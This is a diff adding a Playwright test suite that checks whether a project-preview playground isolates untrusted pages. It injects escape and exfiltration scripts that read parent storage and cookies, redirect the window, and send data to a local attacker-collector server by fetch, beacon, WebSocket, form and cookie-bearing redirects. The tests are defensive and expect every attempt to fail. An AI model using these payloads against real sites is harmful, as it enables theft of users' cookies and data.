@@ -1,0 +1,176 @@
+/**
+ * Somebody else's project is safe to open. Each test puts one attack into a page of the project and looks at what
+ * reached the app, or a server that the attacker owns.
+ */
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { expect, test as base, type Playground } from '../fixtures.ts'
+
+/** A server of the attacker: remembers every path that was asked for. */
+class Collector {
+  readonly paths: string[] = []
+  private constructor(
+    private readonly server: Server,
+    readonly origin: string,
+  ) {}
+
+  static async start(): Promise<Collector> {
+    const server = createServer()
+    await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve))
+    const { port } = server.address() as AddressInfo
+    const collector = new Collector(server, `http://localhost:${port}`)
+    server.on('request', (request, response) => {
+      collector.paths.push(request.url ?? '')
+      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' })
+      response.end('<h1>stolen</h1>')
+    })
+    return collector
+  }
+
+  /** Only the request that proves that it listens has arrived. */
+  async expectNothing(): Promise<void> {
+    await fetch(`${this.origin}/control`)
+    expect(this.paths).toEqual(['/control'])
+  }
+
+  stop(): void {
+    this.server.closeAllConnections()
+    this.server.close()
+  }
+}
+
+const test = base.extend<{ collector: Collector }>({
+  // eslint-disable-next-line no-empty-pattern -- Playwright reads the parameter's shape
+  collector: async ({}, use) => {
+    const collector = await Collector.start()
+    await use(collector)
+    collector.stop()
+  },
+})
+
+/** Makes the start page run `script` (an async function's body); what it returns is shown by the page. */
+async function attack(playground: Playground, script: string): Promise<string> {
+  const page = `<p id="result">running</p><script>
+    void (async () => { ${script} })()
+      .catch((error) => 'refused: ' + error.name)
+      .then((text) => { document.getElementById('result').textContent = 'result: ' + text })
+  </script>`
+  await playground.edit('templates/blog/post_list.html', () => page)
+  const result = playground.preview.locator('#result')
+  await expect(result).toHaveText(/^result: /)
+  return (await result.textContent())?.replace('result: ', '') ?? ''
+}
+
+const settle = 'await new Promise((resolve) => setTimeout(resolve, 1000))'
+
+test("it cannot read the app's page through parent", async ({ playground }) => {
+  const result = await attack(
+    playground,
+    'return parent.parent.document.title + parent.parent.localStorage.length',
+  )
+
+  expect(result).toBe('refused: SecurityError')
+})
+
+test('it cannot send the window elsewhere through top', async ({ playground, collector }) => {
+  const before = playground.page.url()
+
+  await attack(
+    playground,
+    `try { top.location = '${collector.origin}/top' } catch {} ${settle}; return 'tried'`,
+  )
+
+  expect(playground.page.url()).toBe(before)
+  await collector.expectNothing()
+})
+
+test("it finds nothing of the app's storage in its own", async ({ playground }) => {
+  await playground.page.evaluate(async () => {
+    localStorage.setItem('secret', 'of the app')
+    document.cookie = 'secret=of-the-app'
+    await caches.open('secret')
+  })
+
+  const result = await attack(
+    playground,
+    `const databases = await indexedDB.databases()
+     return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, await caches.keys(), databases])`,
+  )
+
+  expect(result).not.toContain('secret')
+  expect(result).not.toContain('roundtrip.project')
+})
+
+test('it cannot send anything to another port', async ({ playground, collector }) => {
+  const result = await attack(
+    playground,
+    `const to = '${collector.origin}'
+     const outcomes = await Promise.allSettled([
+       fetch(to + '/fetch', { mode: 'no-cors' }),
+       new Promise((ok, no) => { const image = new Image(); image.onload = ok; image.onerror = no; image.src = to + '/image' }),
+       import(to + '/module.js'),
+       new Promise((ok, no) => { const socket = new WebSocket(to.replace('http', 'ws') + '/socket'); socket.onopen = ok; socket.onerror = no }),
+     ])
+     navigator.sendBeacon(to + '/beacon', 'x')
+     const frame = document.createElement('iframe')
+     frame.src = to + '/frame'
+     document.body.append(frame)
+     ${settle}
+     return outcomes.map((outcome) => outcome.status).join(' ')`,
+  )
+
+  expect(result).toBe('rejected rejected rejected rejected')
+  await collector.expectNothing()
+})
+
+test('its views, too, cannot send anything to another port', async ({ playground, collector }) => {
+  await playground.edit('blog/views.ts', (text) =>
+    text.replace(
+      "return redirect('blog:post_list')",
+      `fetch('${collector.origin}/from-view', { mode: 'no-cors' }).catch(() => {})\n  return redirect('blog:post_list')`,
+    ),
+  )
+  await playground.send('/')
+  await expect(playground.request(/GET \/, status 302/)).toBeVisible()
+  await expect(playground.preview.getByRole('heading', { name: 'Posts' })).toBeVisible()
+
+  await collector.expectNothing()
+})
+
+test('it cannot navigate itself away', async ({ playground, collector }) => {
+  await attack(
+    playground,
+    `const to = '${collector.origin}'
+     open(to + '/open')
+     const form = document.createElement('form')
+     form.action = to + '/form'
+     document.body.append(form)
+     form.submit()
+     ${settle}; return 'tried'`,
+  )
+  await playground.edit(
+    'templates/blog/post_list.html',
+    () =>
+      `<p>leaving</p><script>location.href = '${collector.origin}/away?' + document.cookie</script>`,
+  )
+  await playground.page.waitForTimeout(1500)
+
+  await collector.expectNothing()
+})
+
+test('unregistering the service worker opens no way out', async ({ playground, collector }) => {
+  await attack(
+    playground,
+    `for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister()
+     const frame = document.createElement('iframe')
+     frame.src = '/nope.html'
+     document.body.append(frame)
+     await new Promise((resolve) => { frame.onload = resolve })
+     const outside = frame.contentWindow
+     await outside.eval("fetch('${collector.origin}/unregistered', { mode: 'no-cors' }).catch(() => {})")
+     outside.location.href = '${collector.origin}/unregistered-away'
+     ${settle}; return 'tried'`,
+  )
+
+  await collector.expectNothing()
+})
